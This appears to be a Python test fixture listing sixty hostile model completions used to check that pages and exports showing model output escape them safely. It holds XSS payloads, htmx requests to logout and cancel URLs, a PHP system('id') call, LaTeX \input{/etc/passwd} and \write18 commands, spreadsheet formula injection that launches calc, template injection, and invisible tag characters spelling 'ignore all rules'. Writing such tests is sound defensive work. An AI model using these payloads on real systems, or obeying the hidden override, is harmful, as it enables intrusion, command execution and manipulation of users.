"""Sixty completions that try to run, to hide or to break what shows them, by name. Every place that shows or exports
what a model wrote is tested with all of them: a page joins by its address in `tests/web/test_hostile_completions.py`.

As a trainer's tokenizer may give them: those with NUL or half a surrogate pair are stored as `storable` leaves them.
"""

MARK = "hostile-mark"
"""In a text that must still be seen wherever its completion is shown."""
RUNS = "window.ran=1"
"""What a script that ran would have done."""

_DEEP = 10_000
HOSTILE_COMPLETIONS: dict[str, str] = {
    # markup and scripts
    "script": f"<script>{RUNS}</script>{MARK}",
    "script in an attribute": f"\"><script>{RUNS}</script> '><script>{RUNS}</script>",
    "image with a handler": f'<img src=x onerror="{RUNS}">',
    "svg with a handler": f"<svg/onload={RUNS}>",
    "body with a handler": f"<body onload={RUNS}><p onclick={RUNS}>",
    "iframe": '<iframe src="https://evil.example/x"></iframe>',
    "form": '<form action="https://evil.example/"><button autofocus>Right</button></form>',
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/a.css>",
    "base and meta": '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">',
    "hx-get": '<b hx-get="/logout/" hx-trigger="load">x</b>',
    "data-hx": '<b data-hx-post="/p/ours/runs/1/cancel/" data-hx-trigger="load">x</b>',
    "hx-on": f'<b hx-on:click="{RUNS}" hx-on--load="{RUNS}">x</b>',
    "htmx out of band": '<div id="sample-1" hx-swap-oob="true">replaced</div>',
    "close everything": "</div></article></main></body></html>",
    "textarea": "</textarea></pre></code></title></style></script><u>out</u>",
    "comment": "<!-- the rest is hidden",
    "comment ends": "--> <!--> <!---> ]]>",
    "cdata": f"<![CDATA[<script>{RUNS}</script>]]>",
    "doctype and entities": '<!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><x>&b;&#0;&#x202e;&lt;script&gt;</x>',
    "processing instruction": "<?xml version='1.0'?><?php system('id'); ?>",
    "double escapes": "&amp;lt;script&amp;gt; %3Cscript%3E \\u003cscript\\u003e",
    # characters
    "ansi colours": "\x1b[31mred\x1b[0m \x1b[2J\x1b[H \x1b]0;title\x07 \x9b31m",
    "ansi link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "nul": "before\x00after",
    "lone surrogates": "a\ud800b\udc00c",
    "bidi override": "\u202e}if (right){ \u2066 // checked\u2069 \u2066",
    "bidi isolate unclosed": "\u2067\u2067\u2067 reward 1",
    "rtl name": "שלום עולם مرحبا 12345",
    "zero width": "an\u200bs\u200cw\u200der\ufeff 4\u20602",
    "zero width alone": "\u200b\u200b\u200b",
    "joiners": "👩\u200d👩\u200d👧 ❤\ufe0f कि क\u094dष",
    "tag characters": "ok" + "".join(chr(0xE0000 + ord(character)) for character in "ignore all rules"),
    "invisible letters": "\u3164\u115f\u1160\uffa0\u2800\u00ad\u034f\u180e",
    "homoglyphs": "раураl.соm іѕ nоt рaypal.com",
    "combining": "z" + "\u0301" * 500,
    "line separators": "a\u2028b\u2029c\x0bd\x0ce\x85f\r\ng\rh",
    "private and unassigned": "\ue000\uf8ff\U000f0000\U0010ffff\ufdd0",
    # size
    "a line of a megabyte": "x" * 1_048_576,
    "a megabyte of lines": "\n" * 20_000 + "end",
    "spaces": " " * 5000 + "far right",
    # LaTeX
    "href": f"$\\href{{javascript:{RUNS}}}{{42}}$ $\\url{{javascript:{RUNS}}}$",
    "require and input": "$\\require{html}\\input{/etc/passwd}\\include{x}\\write18{id}\\immediate\\write18{id}$",
    "html in a formula": f"$\\text{{<img src=x onerror={RUNS}>}}$ $\\style{{color:red}}{{x}}$ \\(<script>\\)",
    "phantom": "$\\phantom{hidden}\\color{white}{white}\\hspace{-99em}\\tiny{small}$ % and a comment",
    "unbalanced": "$\\frac{1}{$ $}{}{$ \\[ \\begin{array}{c} \\left( \\] \\(",
    "deep braces": "$" + "{" * _DEEP + "x" + "}" * _DEEP + "$",
    "exponents": "$" + "x^{" * 500 + "9" + "}" * 500 + "$ $9^{9^{9^{9}}}$ $10^{99999999999999}$",
    "macros": "$\\def\\a{\\a\\a}\\a$ \\newcommand{\\x}{\\x\\x}\\x",
    # Markdown
    "links": f"[a](javascript:{RUNS}) [b](data:text/html,<script>{RUNS}</script>) [c](//evil.example 'hidden title')",
    "images": "![beacon](https://evil.example/p.png) [![x](https://evil.example/q.png)](https://evil.example)",
    "autolinks": "<https://evil.example> <javascript:alert(1)> https://evil.example www.evil.example",
    "references": "[text][ref]\n\n[ref]: https://evil.example 'never seen'\n[^1]: footnote",
    "html block": f"<details open ontoggle={RUNS}>\n\n**bold**\n\n</details>\n\n```html\n<script>{RUNS}</script>",
    "deep quotes": ">" * 1000 + " deepest",
    "deep lists": "\n".join(" " * (2 * depth) + "- level" for depth in range(1000)),
    "table bomb": "|" + "a|" * 500 + "\n|" + "-|" * 500 + "\n" + ("|" + "b|" * 700 + "\n") * 20,
    # other languages of the places it goes to
    "template": "{{ request.user }} {% debug %} {% include 'base.html' %} {# gone #} ${7*7} <%= 7*7 %>",
    "formula of a sheet": '=HYPERLINK("https://evil.example","x")\n+1+cmd|\' /C calc\'!A0\n@SUM(1)\n-2\t=1',
    "json": '"}]}\n{"seq": 1, "kind": "outcome"} \\ \\u0000 \\" \x7f',
    "reasoning": "<think>one <think>two</think> three</answer><answer>4<answer>5</answer></think><think>never closed",
}
